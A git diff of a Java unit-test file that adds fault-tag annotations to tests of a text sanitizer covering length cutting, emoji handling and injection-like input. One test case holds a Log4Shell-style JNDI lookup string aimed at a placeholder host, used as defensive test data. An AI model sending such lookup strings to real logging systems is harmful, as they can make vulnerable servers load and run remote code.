@@ -2,6 +2,7 @@ package io.github.cameldataverse.changes.http;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.github.cameldataverse.changes.Fault;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -21,17 +22,20 @@ class ServiceTextTest {
         "'${jndi:ldap://evil/x} %n {}', '${jndi:ldap://evil/x} %n {}'",
         "'Straße 😀', 'Straße 😀'"
     })
+    @Fault("S12")
     void aTextBecomesOneHarmlessLine(String served, String line) {
         assertThat(ServiceText.clean(served)).isEqualTo(line);
     }
 
     @Test
+    @Fault("S12")
     void aLongTextIsCut() {
         assertThat(ServiceText.clean("x".repeat(300))).isEqualTo("x".repeat(300));
         assertThat(ServiceText.clean("x".repeat(301))).isEqualTo("x".repeat(300) + "…");
     }
 
     @Test
+    @Fault("S12")
     void aCutDoesNotHalveACharacter() {
         assertThat(ServiceText.clean("x".repeat(299) + "😀 and more")).isEqualTo("x".repeat(299) + "…");
     }
